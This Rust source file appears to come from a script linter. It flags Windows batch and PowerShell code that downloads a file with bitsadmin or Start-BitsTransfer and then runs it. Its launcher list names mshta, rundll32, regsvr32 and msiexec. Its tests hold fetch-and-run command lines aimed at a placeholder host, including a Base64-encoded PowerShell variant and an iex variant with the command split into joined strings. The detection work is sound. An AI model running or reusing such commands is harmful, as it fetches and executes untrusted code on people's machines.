//! Files that a job brings and the same script runs.

use super::outer::Outer;
use super::text;
use crate::catalog::SettingId;
use crate::command::Role;
use crate::parse::found::{Found, patterns};
use crate::parse::hidden::runs_of;
use crate::parse::{Called, Statement};
use crate::span::Span;
use crate::text::{Dialect, Piece, Text};
use std::collections::BTreeSet;

patterns! {
    /// What becomes of files.
    pub(in crate::parse) STARTED;
    DOWNLOAD_IS_RUN = "download-is-run", Information, "A file that a job brings is run by the same script: whatever the server sends is what runs here.", "Make sure that its address is an https one, and look at its signature or its hash before it runs.";
}

/// What runs, opens or installs the file that is named behind it.
const RUNNERS: &[&str] = &[
    "&",
    ".",
    "call",
    "start",
    "start-process",
    "saps",
    "invoke-item",
    "ii",
    "msiexec",
    "wusa",
    "rundll32",
    "regsvr32",
    "wscript",
    "cscript",
    "mshta",
    "powershell",
    "pwsh",
    "python",
    "java",
];

/// What is run of the files that statements before it bring.
pub(super) fn started(source: &str, shell: Dialect, statements: &[Statement], opaque: &[Span]) -> Vec<Found> {
    let first = statements.iter().map(|statement| statement.span.start).min();
    let mut names = BTreeSet::new();
    for statement in statements {
        local_names(
            statement,
            |span| statement.outer(span).of(source),
            shell,
            &mut names,
        );
    }
    let mut found = Vec::new();
    if names.is_empty() {
        return found;
    }
    for span in opaque.iter().filter(|span| Some(span.start) > first) {
        for line in lines(span.of(source)) {
            let line = line.shifted(span.start);
            let run = run(line.of(source), shell, &names);
            found.extend(run.map(|name| is_run(name.shifted(line.start), source)));
        }
    }
    found.sort_by_key(|found| found.span);
    found.dedup_by_key(|found| found.span);
    found
}

/// What a text of PowerShell runs of the files that its own statements bring; places are those of the text.
pub(super) fn in_text(text: &str, statements: &[&Statement]) -> Vec<Found> {
    let place = |statement: &Statement| match &statement.called {
        Called::Bitsadmin(call) => call.program,
        Called::Cmdlet(call) => call.name,
    };
    let mut called: Vec<usize> = statements.iter().map(|one| place(one).start).collect();
    called.sort_unstable();
    let mut names = BTreeSet::new();
    for statement in statements {
        local_names(statement, |span| span.of(text), Dialect::PowerShell, &mut names);
    }
    let Some(first) = called.first().filter(|_| !names.is_empty()) else {
        return Vec::new();
    };
    let is_call = |line: &Span| {
        let next = called.partition_point(|start| *start < line.start);
        called.get(next).is_some_and(|start| *start < line.end)
    };
    lines(text)
        .filter(|line| line.start > *first && !is_call(line))
        .filter_map(|line| {
            let name = run(line.of(text), Dialect::PowerShell, &names)?;
            Some(is_run(name.shifted(line.start), text))
        })
        .collect()
}

fn is_run(name: Span, source: &str) -> Found {
    let message = format!(
        "`{}` is a file that a job of this script brings, and this runs it.",
        name.of(source)
    );
    DOWNLOAD_IS_RUN.at(name, message, DOWNLOAD_IS_RUN.instead)
}

/// The local names of a statement in lower case, as they are written and as what they hold.
fn local_names<'t>(
    statement: &Statement,
    as_written: impl Fn(Span) -> &'t str,
    shell: Dialect,
    names: &mut BTreeSet<String>,
) {
    let is_local = |role: Role| {
        role.carries()
            .iter()
            .any(|one| one.setting == SettingId::Files && one.part == "local_name")
    };
    let mut add = |name: &str| {
        let name = name.trim_matches(['"', '\'']).to_lowercase();
        // `$_` and `%1` are other things elsewhere.
        if name.len() > 2 {
            names.insert(name);
        }
    };
    match &statement.called {
        Called::Bitsadmin(call) => {
            for given in call
                .arguments
                .iter()
                .filter(|given| is_local(given.argument.role))
            {
                add(as_written(given.span));
                add(&written(&given.text, shell));
            }
        }
        Called::Cmdlet(call) => {
            for given in call
                .parameters
                .iter()
                .filter(|given| is_local(given.parameter.role))
            {
                add(as_written(given.span));
                for value in given.value.items() {
                    add(&written(&text(value, &Outer::default()), shell));
                }
            }
        }
    }
}

/// A text as a shell writes it.
fn written(text: &Text, shell: Dialect) -> String {
    let pieces = text.pieces().iter().map(|piece| match (piece, shell) {
        (Piece::Literal(literal), _) => literal.clone(),
        (Piece::Environment(name), Dialect::Cmd) => format!("%{name}%"),
        (Piece::Environment(name), Dialect::PowerShell) => format!("$env:{name}"),
        (Piece::Opaque { source, .. }, _) => source.clone(),
        (Piece::Parameter(name), _) => name.clone(),
    });
    pieces.collect()
}

fn lines(text: &str) -> impl Iterator<Item = Span> {
    let mut at: usize = 0;
    text.split_inclusive(['\n', ';']).map(move |line| {
        let start = at;
        at = at.saturating_add(line.len());
        Span::new(start, at)
    })
}

/// The first of some names that a line runs.
fn run(line: &str, shell: Dialect, names: &BTreeSet<String>) -> Option<Span> {
    let is_named = |word: &Span| names.contains(&word.of(line).to_lowercase());
    let bare: Vec<Span> = words(line).collect();
    let runner = bare.iter().position(|word| is_runner(word.of(line)));
    // A command of cmd may be the file itself.
    let from = match (runner, shell) {
        (Some(runner), _) => bare.get(runner)?.end,
        (None, Dialect::Cmd) if command(line, &bare).is_some_and(|word| is_named(&word)) => 0,
        _ => return None,
    };
    quoted(line)
        .chain(bare)
        .find(|word| word.start >= from && is_named(word))
}

/// What a line begins with, without the quotes around it.
fn command(line: &str, bare: &[Span]) -> Option<Span> {
    match line.trim_start().starts_with('"') {
        true => quoted(line).find(|word| !word.is_empty()),
        false => bare.first().copied(),
    }
}

fn is_runner(word: &str) -> bool {
    let name = word
        .rsplit(['\\', '/'])
        .next()
        .unwrap_or(word)
        .to_ascii_lowercase();
    let name = name.strip_suffix(".exe").unwrap_or(&name);
    RUNNERS.contains(&name)
}

/// The words of a line without the quotes around them.
fn words(line: &str) -> impl Iterator<Item = Span> {
    runs_of(line, |c| !(c.is_whitespace() || ",()".contains(c)))
        .map(move |word| trimmed(line, word, &['"', '\'', '`', '@', '{', '}']))
}

/// What stands between quotes of a line, whichever they are.
fn quoted(line: &str) -> impl Iterator<Item = Span> {
    runs_of(line, |c| !matches!(c, '"' | '\'' | '`')).map(move |part| trimmed(line, part, &[' ', ',']))
}

fn trimmed(line: &str, span: Span, marks: &[char]) -> Span {
    let text = span.of(line);
    let start = text.len().saturating_sub(text.trim_start_matches(marks).len());
    let inner = text.trim_matches(marks).len();
    let start = span.start.saturating_add(start);
    Span::new(start, start.saturating_add(inner))
}

#[cfg(test)]
mod tests {
    use super::DOWNLOAD_IS_RUN;
    use crate::parse::{Reading, import};

    /// `Start-BitsTransfer http://h/a C:\a.exe; & C:\a.exe`
    const ENCODED: &str = "powershell -nop -enc UwB0AGEAcgB0AC0AQgBpAHQAcwBUAHIAYQBuAHMAZgBlAHIAIABoAHQAdABwADoALwAvAGgALwBhACAAQwA6AFwAYQAuAGUAeABlADsAIAAmACAAQwA6AFwAYQAuAGUAeABlAA==";

    #[test]
    fn what_a_job_brings_and_the_script_runs_is_told() {
        let rows: &[(&str, &[&str])] = &[
            (
                "bitsadmin /transfer j http://h/a.exe %TEMP%\\a.exe & start %temp%\\a.exe",
                &["%temp%\\a.exe"],
            ),
            (
                "bitsadmin /transfer j http://h/a.exe \"%TEMP%\\a b.exe\"\r\n\"%TEMP%\\a b.exe\" /quiet\r\n",
                &["%TEMP%\\a b.exe"],
            ),
            (
                "set F=C:\\a.msi\r\nbitsadmin /transfer j http://h/a.msi %F%\r\nmsiexec /i %F% /qn\r\n",
                &["%F%"],
            ),
            (
                "set F=C:\\a.msi\r\nbitsadmin /transfer j http://h/a.msi %F%\r\nmsiexec /i C:\\a.msi /qn\r\n",
                &["C:\\a.msi"],
            ),
            (
                "cmd /c bitsadmin /transfer j http://h/a C:\\a.exe & C:\\a.exe",
                &["C:\\a.exe"],
            ),
            (
                "$out = \"$env:TEMP\\a.exe\"\nStart-BitsTransfer http://h/a $out\nStart-Process $out -Wait",
                &["$out"],
            ),
            (
                "Start-BitsTransfer http://h/a C:\\a.exe\n& 'C:\\a.exe' /q",
                &["C:\\a.exe"],
            ),
            (
                "Start-BitsTransfer http://h/a \"$env:TEMP\\a.msi\"\nStart-Process msiexec.exe \"/i `\"$env:TEMP\\a.msi`\" /qn\"",
                &["$env:TEMP\\a.msi"],
            ),
            (
                "Start-BitsTransfer -Source http://h/a -Destination $out\n$p = Start-Process -FilePath $out -PassThru",
                &["$out"],
            ),
            // In a text in Base64 it stands nowhere else.
            (
                ENCODED,
                &[
                    "UwB0AGEAcgB0AC0AQgBpAHQAcwBUAHIAYQBuAHMAZgBlAHIAIABoAHQAdABwADoALwAvAGgALwBhACAAQwA6AFwAYQAuAGUAeABlADsAIAAmACAAQwA6AFwAYQAuAGUAeABlAA==",
                ],
            ),
            (
                "iex ('Start-BitsTransfer http://h/a C:\\a.exe; Start' + '-Process C:\\a.exe')",
                &["('Start-BitsTransfer http://h/a C:\\a.exe; Start' + '-Process C:\\a.exe')"],
            ),
            // It is looked at, moved, or run before.
            (
                "bitsadmin /transfer j http://h/a.exe C:\\a.exe\r\nif not exist C:\\a.exe exit /b 1\r\ncopy C:\\a.exe D:\\\r\n",
                &[],
            ),
            (
                "start C:\\a.exe\r\nbitsadmin /transfer j http://h/a.exe C:\\a.exe\r\n",
                &[],
            ),
            (
                "Start-BitsTransfer http://h/a C:\\a.zip\nExpand-Archive C:\\a.zip C:\\a; Get-FileHash C:\\a.zip",
                &[],
            ),
            (
                "Start-BitsTransfer http://h/a C:\\a.zip\nStart-Process notepad",
                &[],
            ),
        ];
        for (script, expected) in rows {
            let read = import(script, Reading::default());
            let told = read
                .found
                .iter()
                .filter(|found| found.rule == DOWNLOAD_IS_RUN.name);
            let told: Vec<&str> = told.map(|found| found.span.of(script)).collect();
            assert_eq!(told, *expected, "{script}");
        }
    }
}
